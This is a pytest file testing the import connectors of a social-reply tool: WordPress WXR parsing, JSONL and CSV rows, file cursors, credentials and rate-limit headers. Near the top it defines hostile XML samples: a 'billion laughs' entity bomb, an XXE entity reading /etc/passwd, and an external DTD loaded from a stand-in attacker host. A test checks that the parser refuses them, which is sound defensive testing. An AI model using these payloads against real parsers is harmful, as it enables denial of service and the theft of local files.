"""Connectors: the base class, the registry, WordPress exports, JSONL and CSV."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any, ClassVar

import pytest

from cyberkind.connectors import Connector, FileConnector, FileCursor, connector_registry
from cyberkind.connectors.base import detect_file_connector
from cyberkind.connectors.bluesky import BlueskyConnector
from cyberkind.connectors.mastodon import MastodonConnector
from cyberkind.connectors.rss import RSSConnector
from cyberkind.connectors.tabular import CSVConnector, JSONLConnector
from cyberkind.connectors.wordpress import WordPressConnector
from cyberkind.connectors.wxr import WXRConnector, plain_text
from cyberkind.errors import ConfigError, InputFormatError
from cyberkind.hookspecs import hookimpl
from cyberkind.models import Batch, Item, ItemKind, Problem, Reply
from cyberkind.plugins import get_plugin_manager

WXR = Path(__file__).parent / "data" / "kindcorner.wxr.xml"

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><title>&lol3;</title></channel></rss>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><title>&xxe;</title></channel></rss>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">
<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><title>x</title></channel></rss>
"""


# -- the base class and the registry ----------------------------------------------------------


@pytest.mark.parametrize(
    ("call", "method"),
    [
        (lambda c: list(c.fetch(None)), "fetch"),
        (lambda c: c.publish(Reply("s", "1", "hi")), "publish"),
    ],
)
def test_base_methods_name_themselves(call: Any, method: str) -> None:
    class Bare(Connector):
        name = "bare"

    with pytest.raises(NotImplementedError, match=rf"Bare\.{method}\(\) is not implemented"):
        call(Bare())


def test_connector_is_a_context_manager() -> None:
    closed = []

    class Closing(Connector):
        def close(self) -> None:
            closed.append(True)

    with Closing() as conn:
        assert isinstance(conn, Closing)
    assert closed == [True]


def test_builtin_connectors_register_like_plugins() -> None:
    registry = connector_registry()
    assert registry == {
        "wxr": WXRConnector,
        "jsonl": JSONLConnector,
        "csv": CSVConnector,
        "rss": RSSConnector,
        "wordpress": WordPressConnector,
        "mastodon": MastodonConnector,
        "bluesky": BlueskyConnector,
    }


class _Toots(Connector):
    name: ClassVar[str] = "tests.toots"


class _Plugin:
    @staticmethod
    @hookimpl
    def register_connectors() -> list[type[Connector]]:
        return [_Toots]


def test_third_party_connector_plugs_in() -> None:
    pm = get_plugin_manager()
    pm.register(_Plugin(), name="tests-toots")
    try:
        assert connector_registry()["tests.toots"] is _Toots
    finally:
        pm.unregister(name="tests-toots")
    assert "tests.toots" not in connector_registry()


def test_clashing_connector_names_are_an_error() -> None:
    class Impostor(Connector):
        name: ClassVar[str] = "wxr"

    class Plugin:
        @staticmethod
        @hookimpl
        def register_connectors() -> list[type[Connector]]:
            return [Impostor]

    pm = get_plugin_manager()
    pm.register(Plugin(), name="tests-impostor")
    try:
        with pytest.raises(ConfigError, match="two plugins register the connector 'wxr'"):
            connector_registry()
    finally:
        pm.unregister(name="tests-impostor")


class _Numbers(FileConnector):
    name: ClassVar[str] = "numbers"

    def records(self) -> Iterator[tuple[int, Item | Problem]]:
        for n, line in enumerate(self.path.read_text().split(), start=1):
            yield n, Problem(n, line)


@pytest.mark.parametrize(
    ("count", "size", "sizes"), [(7, 3, [3, 3, 1]), (6, 3, [3, 3]), (0, 3, [0]), (2, 5, [2])]
)
def test_file_batches_end_with_a_complete_cursor(
    tmp_path: Path, count: int, size: int, sizes: list[int]
) -> None:
    path = tmp_path / "n.txt"
    path.write_text(" ".join(str(n) for n in range(count)))
    batches = list(_Numbers(path, batch_size=size).fetch(None))
    assert [len(b.problems) for b in batches] == sizes
    cursors = [FileCursor.loads(b.cursor) for b in batches]
    assert [c.complete for c in cursors if c] == [False] * (len(sizes) - 1) + [True]
    assert cursors[-1] is not None and cursors[-1].position == count


def test_file_cursor_resumes_only_the_same_unfinished_file(tmp_path: Path) -> None:
    path = tmp_path / "n.txt"
    path.write_text("a b c d e")
    conn = _Numbers(path, batch_size=2)
    halfway = FileCursor(conn.sha256, 2).dumps()
    assert [p.reason for b in conn.fetch(halfway) for p in b.problems] == ["c", "d", "e"]
    other_file = FileCursor("0" * 64, 2).dumps()
    finished = FileCursor(conn.sha256, 5, complete=True).dumps()
    for cursor in (other_file, finished, "garbage", None):
        assert len([p for b in conn.fetch(cursor) for p in b.problems]) == 5


def test_batch_size_must_be_positive() -> None:
    with pytest.raises(ConfigError, match="batch_size must be at least 1"):
        _Numbers(WXR, batch_size=0)


@pytest.mark.parametrize(
    ("name", "content", "declared", "expected"),
    [
        ("export.xml", WXR.read_bytes(), None, WXRConnector),
        ("export.txt", WXR.read_bytes(), None, WXRConnector),
        ("a.jsonl", b'{"id": 1}\n', None, JSONLConnector),
        ("a.json", b"", None, JSONLConnector),
        ("a.txt", b'\xef\xbb\xbf{"id": 1}\n', None, JSONLConnector),
        ("a.csv", b"id,kind\n", None, CSVConnector),
        ("a.data", b"id,kind\n", "csv", CSVConnector),
    ],
)
def test_format_detection(
    tmp_path: Path, name: str, content: bytes, declared: str | None, expected: type
) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    assert detect_file_connector(path, declared) is expected


@pytest.mark.parametrize(
    ("name", "declared", "message"),
    [
        ("a.data", None, "cannot tell the format of a.data.*--format with one of: csv, jsonl, wxr"),
        ("a.csv", "yaml", "unknown import format 'yaml'"),
    ],
)
def test_format_detection_errors(
    tmp_path: Path, name: str, declared: str | None, message: str
) -> None:
    path = tmp_path / name
    path.write_text("id,kind\n")
    with pytest.raises(InputFormatError, match=message):
        detect_file_connector(path, declared)


# -- WordPress exports --------------------------------------------------------------------------


def _wxr_items() -> dict[str, Item]:
    conn = WXRConnector(WXR, identity=["someone-else@example.org"])
    return {i.remote_id: i for b in conn.fetch(None) for i in b.items}


def test_wxr_maps_posts_comments_replies_and_links() -> None:
    items = _wxr_items()
    kinds = {rid: item.kind for rid, item in items.items()}
    assert kinds == {
        "post:42": ItemKind.POST,
        "post:2": ItemKind.POST,
        "comment:101": ItemKind.COMMENT,
        "comment:102": ItemKind.COMMENT,
        "comment:103": ItemKind.COMMENT,
        "comment:104": ItemKind.COMMENT,
        "comment:201": ItemKind.REPLY,
        "comment:202": ItemKind.REPLY,
        "comment:105": ItemKind.REPLY,
        "comment:106": ItemKind.REPLY,
        "comment:301": ItemKind.PINGBACK,
        "comment:302": ItemKind.PINGBACK,
        "comment:303": ItemKind.TRACKBACK,
        "comment:304": ItemKind.PINGBACK,
    }  # no attachment, no spam
    own = {rid for rid, item in items.items() if item.is_own}
    assert own == {"post:42", "post:2", "comment:201", "comment:202", "comment:304"}
    reply = items["comment:105"]
    assert (reply.parent_remote_id, reply.thread_id) == ("comment:201", "post:42")
    assert items["comment:102"].parent_remote_id == "post:42"
    assert reply.url == "https://kindcorner.example/2026/10/ten-tiny-kindnesses/#comment-105"
    assert reply.source == "wordpress:kindcorner.example"
    assert str(reply.created_at) == "2026-10-14 06:30:00+00:00"
    assert items["comment:301"].author.name == "Ben's Blog \u00bb A kindness roundup"
    assert items["comment:103"].text.endswith("it makes someone's day.")
    assert items["post:42"].text.startswith("Ten tiny kindnesses\n\nHere are ten tiny kindnesses")


def test_wxr_keeps_no_emails_or_ip_addresses() -> None:
    dump = json.dumps([repr(i) for i in _wxr_items().values()])
    assert "@example.org" not in dump and "203.0.113.5" not in dump
    assert _wxr_items()["comment:101"].author.handle.startswith("email:")


def test_wxr_identity_picks_the_users_posts_on_a_shared_blog(tmp_path: Path) -> None:
    text = WXR.read_text().replace(
        "<wp:author><wp:author_id>1</wp:author_id>",
        "<wp:author><wp:author_id>7</wp:author_id><wp:author_login><![CDATA[kim]]>"
        "</wp:author_login></wp:author>\n\t<wp:author><wp:author_id>1</wp:author_id>",
    )
    path = tmp_path / "shared.xml"
    path.write_text(text)
    items = {
        i.remote_id: i for b in WXRConnector(path, identity=["kim"]).fetch(None) for i in b.items
    }
    assert not items["post:42"].is_own  # sam's post, and the user is kim


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (
            BILLION_LAUGHS,
            r"refused .*hostile\.xml: it declares a document type \(<!DOCTYPE lolz>\)"
            r", which is how 'billion laughs'",
        ),
        (EXTERNAL_ENTITY, r"refused .*hostile\.xml: it declares a document type \(<!DOCTYPE rss>"),
        (
            EXTERNAL_DTD,
            r"refused .*hostile\.xml: it declares a document type \(<!DOCTYPE rss "
            r"SYSTEM 'http://attacker\.example/evil\.dtd'>\)",
        ),
        (
            "<rss><channel><title>x</channel>",
            r"hostile\.xml is not well-formed XML \(line 1, "
            r"column 24\)\. You can fix this",
        ),
        ("<feed><title>x</title></feed>", r"hostile\.xml is not a WordPress export"),
    ],
)
def test_hostile_or_broken_xml_is_refused(tmp_path: Path, content: str, message: str) -> None:
    path = tmp_path / "hostile.xml"
    path.write_text(content)
    with pytest.raises(InputFormatError, match=message):
        WXRConnector(path)


def test_plain_text_drops_markup() -> None:
    assert plain_text("<p>Hi &amp; <b>bye</b></p><p>Two</p>") == "Hi & bye\nTwo"


# -- JSONL and CSV -------------------------------------------------------------------------------


def test_jsonl_fields_and_bad_rows(tmp_path: Path) -> None:
    path = tmp_path / "m.jsonl"
    path.write_bytes(
        b'{"id": "1", "kind": "mention", "author": "Ana", "text": "hi", "lang": "en",'
        b' "created_at": "2026-11-20T09:30:00Z", "parent_id": "p", "thread_id": "p"}\n'
        b"\n"
        b'{"id": "2", "kind": "poke", "author": "Ben"}\n'
        b"[1, 2]\n"
        b"{not json\n"
        b'{"kind": "like", "author": "Cy"}\n'
        b'{"id": "3", "kind": "like"}\n'
        b'{"id": "4", "kind": "reply", "is_own": "yes", "text": "thanks"}\n'
        b'{"id": "5", "kind": "like", "author": "Di", "is_own": "maybe"}\n'
        b'{"id": "6", "kind": "like", "author": "Ed", "created_at": "yesterday"}\n'
        b'{"id": "7", "kind": "LIKE", "author_handle": "@fi@x.example", "text": "caf\xe9"}\n'
        b'{"id": "8", "kind": "like", "author": "me@example.org"}\n'
    )
    conn = JSONLConnector(path, identity=["Me@Example.org"])
    batches = list(conn.fetch(None))
    items = [i for b in batches for i in b.items]
    problems = {p.line: p.reason for b in batches for p in b.problems}
    assert [i.remote_id for i in items] == ["1", "4", "8"]
    assert conn.source == "import:m"
    first = items[0]
    assert (first.kind, first.author.name, first.author.handle) == (ItemKind.MENTION, "Ana", "Ana")
    assert (first.parent_remote_id, first.thread_id, first.raw) == ("p", "p", {"lang": "en"})
    assert (
        first.created_at is not None and first.created_at.isoformat() == "2026-11-20T09:30:00+00:00"
    )
    assert items[1].is_own and items[2].is_own
    assert sorted(problems) == [3, 4, 5, 6, 7, 9, 10, 11]
    assert problems[3].startswith("kind 'poke' is not one of: post, comment")
    assert problems[4] == "expected a JSON object, got list"
    assert problems[5].startswith("invalid JSON")
    assert problems[6].startswith("no 'id'")
    assert problems[7] == "no 'author' (needed unless is_own is true)"
    assert problems[9] == "is_own 'maybe' is not true or false"
    assert problems[10] == "created_at 'yesterday' is not an ISO 8601 date and time"
    assert "invalid UTF-8" in problems[11]


def test_csv_rows_with_line_numbers(tmp_path: Path) -> None:
    path = tmp_path / "c.csv"
    path.write_text(
        "id,kind,author,text,is_own\n"
        '1,comment,Ana,"two\nlines",false\n'
        "2,comment,Ben\n"
        "3,boost,Cy,,0\n"
        "\n"
        "4,comment,,hi,\n",
        encoding="utf-8",
    )
    batches = list(CSVConnector(path, source="mastodon:@me@x.example").fetch(None))
    items = [i for b in batches for i in b.items]
    problems = {p.line: p.reason for b in batches for p in b.problems}
    assert [(i.remote_id, i.text) for i in items] == [("1", "two\nlines"), ("3", "")]
    assert items[0].source == "mastodon:@me@x.example"
    assert problems == {
        4: "expected 5 columns, found 3",
        7: "no 'author' (needed unless is_own is true)",
    }


def test_csv_needs_id_and_kind_columns(tmp_path: Path) -> None:
    path = tmp_path / "c.csv"
    path.write_text("name,text\nAna,hi\n")
    [batch] = list(CSVConnector(path).fetch(None))
    assert batch.problems == (
        Problem(1, "the header needs the columns id and kind (found: name, text)"),
    )


def test_a_missing_file_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(InputFormatError, match=r"nope\.jsonl does not exist"):
        JSONLConnector(tmp_path / "nope.jsonl")


def test_batches_carry_the_source_cursor() -> None:
    batch = Batch((), "c")
    assert batch.problems == ()


def test_live_connector_checks_platform_and_names_the_missing_secret() -> None:
    """A live connector reads secrets only through Credentials, and says how to set one."""
    from cyberkind.connectors import LiveConnector
    from cyberkind.credentials import EnvCredentials
    from cyberkind.errors import AuthError
    from cyberkind.models import Account

    class Demo(LiveConnector):
        name: ClassVar[str] = "demo"
        secret_keys: ClassVar[tuple[str, ...]] = ("access_token",)

    account = Account("work", "demo", "https://social.example", handle="Ana")
    conn = Demo(account, credentials=EnvCredentials({}), identity=["ana@x"])
    assert conn.source == "demo:work"
    assert conn.identity == {"ana", "ana@x"}
    with pytest.raises(AuthError, match="CYBERKIND_WORK_ACCESS_TOKEN"):
        conn.secret("access_token")
    conn = Demo(account, credentials=EnvCredentials({"CYBERKIND_WORK_ACCESS_TOKEN": "t0k"}))
    assert conn.secret("access_token").reveal() == "t0k"
    assert "t0k" not in repr(conn.secret("access_token"))
    with pytest.raises(ConfigError, match="not demo"):
        Demo(Account("x", "mastodon", "https://m.example"), credentials=EnvCredentials({}))
    assert conn.published(Reply("demo:work", "1", "hi", idempotency_key="k")) is None


def test_live_connectors_share_one_set_of_retry_options() -> None:
    """max_retries, max_wait and sleep live on LiveConnector; each platform keeps its default."""
    from cyberkind.connectors.bluesky import BlueskyConnector
    from cyberkind.connectors.mastodon import MastodonConnector
    from cyberkind.connectors.wordpress import WordPressConnector
    from cyberkind.credentials import EnvCredentials
    from cyberkind.models import Account

    creds = EnvCredentials({})
    waits: list[float] = []
    wp = WordPressConnector(
        Account("blog", "wordpress", "https://kind.example", handle="ana"), credentials=creds
    )
    assert (wp.max_retries, wp.max_wait) == (3, 120.0)
    masto = MastodonConnector(
        Account("m", "mastodon", "https://social.example", handle="ana"),
        credentials=creds,
        max_retries=1,
        sleep=waits.append,
    )
    assert (masto.max_retries, masto.max_wait) == (1, 300.0)
    masto.sleep(2.0)
    assert waits == [2.0]
    sky = BlueskyConnector(
        Account("b", "bluesky", "https://bsky.example", handle="ana.bsky.social"),
        credentials=creds,
        max_wait=5,
    )
    assert (sky.max_retries, sky.max_wait) == (3, 5.0)
    with pytest.raises(ConfigError, match="max_retries must be 0 or more"):
        WordPressConnector(wp.account, credentials=creds, max_retries=-1)
    with pytest.raises(ConfigError, match="max_wait must be 0 or more"):
        MastodonConnector(masto.account, credentials=creds, max_wait=-1)


@pytest.mark.parametrize(
    ("headers", "expected"),
    [
        ({"Retry-After": "7"}, 7.0),
        ({"retry-after": "Thu, 01 Jan 2026 00:00:09 GMT"}, 9.0),
        ({"X-RateLimit-Remaining": "0", "X-RateLimit-Reset": "2026-01-01T00:05:00.000Z"}, 300.0),
        ({"X-RateLimit-Remaining": "12", "X-RateLimit-Reset": "2026-01-01T00:05:00Z"}, None),
        ({"RateLimit-Remaining": "0", "RateLimit-Reset": "1767225630"}, 30.0),
        ({"RateLimit-Remaining": "0", "RateLimit-Reset": "45"}, 45.0),
        ({"RateLimit-Remaining": "x", "RateLimit-Reset": "45"}, None),
        ({}, None),
    ],
)
def test_rate_limit_headers_of_each_platform(
    headers: dict[str, str], expected: float | None
) -> None:
    from datetime import UTC, datetime

    from cyberkind.connectors.http import rate_limit_wait

    now = datetime(2026, 1, 1, tzinfo=UTC)
    assert rate_limit_wait(headers, now) == expected
